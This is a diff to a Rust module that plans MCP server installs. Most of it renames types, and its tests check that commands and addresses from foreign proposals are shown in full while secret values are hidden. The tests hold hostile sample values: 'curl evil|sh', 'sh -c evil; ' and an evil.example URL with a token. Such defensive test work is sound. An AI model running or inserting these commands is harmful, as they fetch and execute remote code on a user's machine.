@@ -7,27 +7,27 @@ use std::rc::Rc;
 
 use super::npm::{self, Npm};
 use super::pypi::{self, Pypi};
-use super::scope::Scope;
+use super::scope::InstallScope;
 use super::tools::{find, is_executable, need, node, text};
-use colibri_mcp::bring::{
-    Answers, Field, Process, Program, Proposal, Registry, Remote, Runs, Template, looks_secret, name_says_secret,
-    shown_url,
-};
 use colibri_mcp::edit::Value;
+use colibri_mcp::importers::{
+    Field, PackageRegistry, Proposal, ProposedProcess, ProposedProgram, ProposedRemote, Runs, Template, TemplateValues,
+    looks_secret, name_says_secret, shown_url,
+};
 
 /// Text in place of what is not shown.
 pub(super) const HIDDEN: &str = "[not shown]";
 
 /// What the person chose.
 #[derive(Debug, Clone, Copy, Default)]
-pub(crate) struct Options {
+pub(crate) struct InstallOptions {
     /// Whether scripts of packages are run while they are installed.
     pub scripts: bool,
 }
 
 /// One server as it will be.
 #[derive(Debug)]
-pub(crate) struct Plan {
+pub(crate) struct InstallPlan {
     /// Its id.
     pub id: String,
     /// Its name where it comes from.
@@ -39,7 +39,7 @@ pub(crate) struct Plan {
     /// What is installed for it.
     pub installs: Installs,
     /// The package and its version, as make-root.sh takes them.
-    pub package: Option<(Registry, String)>,
+    pub package: Option<(PackageRegistry, String)>,
     /// The arguments, or the address, as they are shown.
     pub shown: Vec<String>,
     /// The values that have files of their own, as they are shown: by the name of each.
@@ -69,10 +69,10 @@ pub(crate) enum Installs {
 }
 
 /// What a process is started with.
-struct Started {
+struct StartCommand {
     words: Vec<String>,
     installs: Installs,
-    package: Option<(Registry, String)>,
+    package: Option<(PackageRegistry, String)>,
 }
 
 /// What is written for a server of this id. What its packages are is found out, and nothing is kept of it.
@@ -82,12 +82,12 @@ struct Started {
 pub(crate) fn plan(
     proposal: &Proposal,
     id: &str,
-    answers: &Answers,
+    answers: &TemplateValues,
     bundle: Option<&Rc<[u8]>>,
-    scope: &Scope,
-    options: Options,
-) -> Result<Plan, String> {
-    let mut plan = Plan {
+    scope: &InstallScope,
+    options: InstallOptions,
+) -> Result<InstallPlan, String> {
+    let mut plan = InstallPlan {
         id: id.to_owned(),
         name: proposal.name.clone(),
         entry: Value::Null,
@@ -124,9 +124,9 @@ pub(crate) fn plan(
     Ok(plan)
 }
 
-type Members = Vec<(String, Value)>;
+type EntryMembers = Vec<(String, Value)>;
 
-impl Plan {
+impl InstallPlan {
     /// The program of its entry.
     pub(super) fn command(&self) -> Option<&str> {
         let Value::Object(members) = &self.entry else {
@@ -140,20 +140,20 @@ impl Plan {
 
     fn process(
         &mut self,
-        process: &Process,
+        process: &ProposedProcess,
         proposal: &Proposal,
-        answers: &Answers,
+        answers: &TemplateValues,
         bundle: Option<&Rc<[u8]>>,
-        scope: &Scope,
-        options: Options,
-    ) -> Result<Members, String> {
+        scope: &InstallScope,
+        options: InstallOptions,
+    ) -> Result<EntryMembers, String> {
         let prefix = scope.prefix(&self.id);
         let mut answers = answers.clone();
         answers.insert("__dirname".to_owned(), vec![text(&prefix.join("bundle"))?]);
         let veiled = veiled(&answers);
         let (mut args, mut shown, mut asked) = (Vec::new(), Vec::new(), Vec::new());
         for arg in &process.args {
-            let fill = |answers: &Answers| {
+            let fill = |answers: &TemplateValues| {
                 arg.fill_all(answers)
                     .map_err(|key| format!("one of its arguments needs {key}"))
             };
@@ -164,7 +164,7 @@ impl Plan {
             args.extend(words);
             shown.extend(fill(&veiled)?);
         }
-        let Started {
+        let StartCommand {
             words,
             installs,
             package,
@@ -224,7 +224,12 @@ impl Plan {
         Ok(members)
     }
 
-    fn remote(&mut self, remote: &Remote, proposal: &Proposal, answers: &Answers) -> Result<Members, String> {
+    fn remote(
+        &mut self,
+        remote: &ProposedRemote,
+        proposal: &Proposal,
+        answers: &TemplateValues,
+    ) -> Result<EntryMembers, String> {
         let url = remote
             .url
             .fill(answers)
@@ -281,8 +286,8 @@ impl Plan {
         &mut self,
         fields: &BTreeMap<String, Field>,
         proposal: &Proposal,
-        answers: &Answers,
-    ) -> Result<Members, String> {
+        answers: &TemplateValues,
+    ) -> Result<EntryMembers, String> {
         let mut members = Vec::new();
         for (name, field) in fields {
             let value = match field.text.fill(answers) {
@@ -312,7 +317,7 @@ impl Plan {
 }
 
 /// The same answers without what they say: what stands around them is the source's.
-fn veiled(answers: &Answers) -> Answers {
+fn veiled(answers: &TemplateValues) -> TemplateValues {
     let veil = |(key, values): (&String, &Vec<String>)| {
         let is_known = matches!(key.as_str(), "__dirname" | "HOME");
         let values = values
@@ -397,47 +402,47 @@ fn told(args: &[String]) -> Vec<usize> {
 }
 
 fn start(
-    program: &Program,
-    answers: &Answers,
+    program: &ProposedProgram,
+    answers: &TemplateValues,
     bundle: Option<&Rc<[u8]>>,
-    scope: &Scope,
+    scope: &InstallScope,
     id: &str,
-    options: Options,
-) -> Result<Started, String> {
+    options: InstallOptions,
+) -> Result<StartCommand, String> {
     let prefix = scope.prefix(id);
     let venv = prefix.join("venv");
     match program {
-        Program::Command(command) => {
+        ProposedProgram::Command(command) => {
             let command = command
                 .fill(answers)
                 .map_err(|key| format!("its command needs {key}"))?;
-            Ok(Started {
+            Ok(StartCommand {
                 words: vec![absolute(&command)?],
                 installs: Installs::Nothing,
                 package: None,
             })
         }
-        Program::Package(package) if package.registry == Registry::Npm => {
+        ProposedProgram::Package(package) if package.registry == PackageRegistry::Npm => {
             let npm = npm::resolve(package, options.scripts)?;
             let words = vec![text(&node()?)?, text(&prefix.join(&npm.script))?];
             let exact = format!("{}@{}", package.name, npm.version);
-            Ok(Started {
+            Ok(StartCommand {
                 words,
-                package: Some((Registry::Npm, exact.clone())),
+                package: Some((PackageRegistry::Npm, exact.clone())),
                 installs: Installs::Npm(npm, exact),
             })
         }
-        Program::Package(package) => {
+        ProposedProgram::Package(package) => {
             let pypi = pypi::resolve(package, options.scripts)?;
             let script = venv.join("bin").join(&pypi.program);
             let exact = format!("{}=={}", package.name, pypi.version);
-            Ok(Started {
+            Ok(StartCommand {
                 words: vec![text(&pypi::interpreter(&venv))?, text(&script)?],
-                package: Some((Registry::Pypi, exact.clone())),
+                package: Some((PackageRegistry::Pypi, exact.clone())),
                 installs: Installs::Pypi(pypi, exact),
             })
         }
-        Program::Bundled {
+        ProposedProgram::Bundled {
             command,
             requirements,
             venv: has_venv,
@@ -455,7 +460,7 @@ fn start(
             let venv = has_venv
                 .then(|| pypi::resolve_all(requirements, None, options.scripts))
                 .transpose()?;
-            Ok(Started {
+            Ok(StartCommand {
                 words: vec![word],
                 package: None,
                 installs: Installs::Bundle { bytes, sha256, venv },
@@ -499,8 +504,8 @@ fn absolute(command: &str) -> Result<String, String> {
 mod tests {
     use std::collections::BTreeSet;
 
-    use colibri_mcp::bring::Piece;
-    use colibri_mcp::edit::Kind;
+    use colibri_mcp::edit::FileFormat;
+    use colibri_mcp::importers::TemplatePart;
     use proptest::prelude::*;
 
     use super::*;
@@ -521,26 +526,34 @@ mod tests {
     }
 
     /// A server of this user's with these variables or headers.
-    fn planned(fields: BTreeMap<String, Field>, is_remote: bool) -> Plan {
+    fn planned(fields: BTreeMap<String, Field>, is_remote: bool) -> InstallPlan {
         let runs = match is_remote {
-            true => Runs::Remote(Remote {
+            true => Runs::Remote(ProposedRemote {
                 url: Template::from("https://h.example/mcp"),
                 headers: fields,
                 sse: false,
             }),
-            false => Runs::Process(Box::new(Process {
-                program: Program::Command(Template::from("/bin/sh")),
+            false => Runs::Process(Box::new(ProposedProcess {
+                program: ProposedProgram::Command(Template::from("/bin/sh")),
                 args: vec![Template::from("-c")],
                 env: fields,
                 cwd: None,
             })),
         };
         let proposal = Proposal::new("s", Ok(runs));
-        plan(&proposal, "s", &Answers::new(), None, &nowhere(), Options::default()).unwrap()
+        plan(
+            &proposal,
+            "s",
+            &TemplateValues::new(),
+            None,
+            &nowhere(),
+            InstallOptions::default(),
+        )
+        .unwrap()
     }
 
-    fn nowhere() -> Scope {
-        Scope {
+    fn nowhere() -> InstallScope {
+        InstallScope {
             registry: PathBuf::from("/x/external-mcp.json"),
             secrets: PathBuf::from("/x/secrets"),
             servers: PathBuf::from("/x/servers"),
@@ -558,18 +571,18 @@ mod tests {
             optional: false,
         };
         let gap = |before: &str, key: &str| {
-            let key = Piece::Gap {
+            let key = TemplatePart::Gap {
                 key: key.to_owned(),
                 default: None,
             };
-            Template(vec![Piece::Text(before.to_owned()), key])
+            Template(vec![TemplatePart::Text(before.to_owned()), key])
         };
         let env = [
             ("SESSION_TOKEN_CMD", field(Template::from("curl evil|sh"), false)),
             ("LOGIN", field(gap("sh -c evil; ", "login"), true)),
         ];
-        let process = Process {
-            program: Program::Command(Template::from("/bin/sh")),
+        let process = ProposedProcess {
+            program: ProposedProgram::Command(Template::from("/bin/sh")),
             args: vec![
                 Template::from("--session-token-cmd"),
                 Template::from("curl evil|sh"),
@@ -588,7 +601,7 @@ mod tests {
         let mut proposal = Proposal::new("s", Ok(Runs::Process(Box::new(process))));
         proposal.is_foreign = true;
         let plan_of =
-            |proposal: &Proposal| plan(proposal, "s", &answers, None, &nowhere(), Options::default()).unwrap();
+            |proposal: &Proposal| plan(proposal, "s", &answers, None, &nowhere(), InstallOptions::default()).unwrap();
         let foreign = plan_of(&proposal);
         let evil = format!("sh -c evil; {HIDDEN}");
         assert_eq!(
@@ -608,22 +621,22 @@ mod tests {
     #[test]
     fn an_address_says_to_whom_it_leads_whatever_is_secret_in_it() {
         let url = Template(vec![
-            Piece::Text("https://evil.example:8/a/".to_owned()),
-            Piece::Gap {
+            TemplatePart::Text("https://evil.example:8/a/".to_owned()),
+            TemplatePart::Gap {
                 key: "token".to_owned(),
                 default: None,
             },
-            Piece::Text("/b?token=hunter2".to_owned()),
+            TemplatePart::Text("/b?token=hunter2".to_owned()),
         ]);
         let answers = [("token".to_owned(), vec!["sesame".to_owned()])].into();
         let (headers, sse) = (BTreeMap::new(), false);
-        let mut proposal = Proposal::new("s", Ok(Runs::Remote(Remote { url, headers, sse })));
+        let mut proposal = Proposal::new("s", Ok(Runs::Remote(ProposedRemote { url, headers, sse })));
         for (is_foreign, shown) in [
             (false, "https://evil.example:8/[not shown]"),
             (true, "https://evil.example:8/a/[not shown]/b?token=hunter2"),
         ] {
             proposal.is_foreign = is_foreign;
-            let plan = plan(&proposal, "s", &answers, None, &nowhere(), Options::default()).unwrap();
+            let plan = plan(&proposal, "s", &answers, None, &nowhere(), InstallOptions::default()).unwrap();
             assert_eq!(plan.shown, [shown]);
         }
     }
@@ -644,7 +657,7 @@ mod tests {
                 (name.clone(), Field { text, secret: *secret, optional: false })
             });
             let plan = planned(made.collect(), is_remote);
-            let written = Kind::Json.set("", &["servers", "s"], &plan.entry).unwrap();
+            let written = FileFormat::Json.set("", &["servers", "s"], &plan.entry).unwrap();
             let registry = colibri_registry::Registry::parse(written.as_bytes(), "file").unwrap();
             prop_assert!(registry.servers.contains_key("s"), "{written}: {:?}", registry.refused);
             let files: BTreeSet<&str> = plan.secrets.iter().map(|(_, file, _)| file.as_str()).collect();
@@ -652,7 +665,7 @@ mod tests {
             prop_assert!(files.iter().all(|file| colibri_registry::is_secret_name(file)));
             let key = if is_remote { "headers" } else { "env" };
             for (name, (value, secret)) in &fields {
-                let stands = Kind::Json.get(&written, &["servers", "s", key, name]).unwrap().unwrap();
+                let stands = FileFormat::Json.get(&written, &["servers", "s", key, name]).unwrap().unwrap();
                 let kept = plan.secrets.iter().find(|(of, ..)| of == name);
                 match kept {
                     Some((_, file, kept)) => {
